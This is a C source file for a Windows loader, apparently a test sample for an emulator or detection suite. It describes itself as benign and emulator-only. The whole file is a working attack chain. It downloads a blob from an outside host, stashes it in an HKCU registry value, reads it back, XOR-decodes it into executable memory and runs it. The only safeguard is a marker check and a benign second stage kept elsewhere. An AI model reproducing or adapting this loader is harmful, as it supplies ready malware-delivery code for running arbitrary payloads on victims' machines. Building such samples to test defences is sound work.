/*
 * loader.c - generality suite: download -> stashed in the registry -> read back -> XOR -> run.
 * Benign, emulator-only (see ../../lineage-common/common.h).
 *
 * GETs http://updates.example-cdn.net/a.bin with WinINet, stores the body as the REG_BINARY
 * value HKCU\Software\ChainreplayDemo\Stash (RegCreateKeyExA + RegSetValueExA), reads it back
 * with RegQueryValueExA into a heap block, XORs it (key 0x42) into new RWX memory and calls it.
 * The stage (../../lineage-common/payload.c) writes C:\Users\Public\lineage_stash.txt.
 * Exit codes: 0 ok, 1 no marker, 2 network, 3 registry, 4 memory, 6 the stage failed.
 */
#include "common.h"
#include <wininet.h>

typedef DWORD (WINAPI *entry_t)(struct sc_ctx *);

void Entry(void)
{
    static struct sc_ctx ctx;
    static unsigned char body[0x2000];
    HINTERNET net, url;
    DWORD got, total = 0, cb = 0x2000, type = 0, i;
    HKEY key;
    unsigned char *raw, *mem;

    if (!marker_present())
        ExitProcess(1);
    net = InternetOpenA("Mozilla/5.0", INTERNET_OPEN_TYPE_PRECONFIG, 0, 0, 0);
    url = net ? InternetOpenUrlA(net, "http://updates.example-cdn.net/a.bin", 0, 0, INTERNET_FLAG_RELOAD, 0) : 0;
    if (!url)
        ExitProcess(2);
    while (total < sizeof(body) && InternetReadFile(url, body + total, sizeof(body) - total, &got) && got)
        total += got;
    if (total < 64)
        ExitProcess(2);
    if (RegCreateKeyExA(HKEY_CURRENT_USER, "Software\\ChainreplayDemo", 0, 0, 0, KEY_ALL_ACCESS, 0, &key, 0) != ERROR_SUCCESS)
        ExitProcess(3);
    if (RegSetValueExA(key, "Stash", 0, REG_BINARY, body, total) != ERROR_SUCCESS)
        ExitProcess(3);
    raw = (unsigned char *)HeapAlloc(GetProcessHeap(), 0, cb);
    if (!raw || RegQueryValueExA(key, "Stash", 0, &type, raw, &cb) != ERROR_SUCCESS || cb != total)
        ExitProcess(3);
    RegCloseKey(key);
    mem = (unsigned char *)VirtualAlloc(0, cb, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);
    if (!mem)
        ExitProcess(4);
    for (i = 0; i < cb; i++)
        mem[i] = raw[i] ^ 0x42;
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_stash.txt", "stashed in the registry\n");
    ExitProcess(((entry_t)(void *)mem)(&ctx) ? 6 : 0);
}
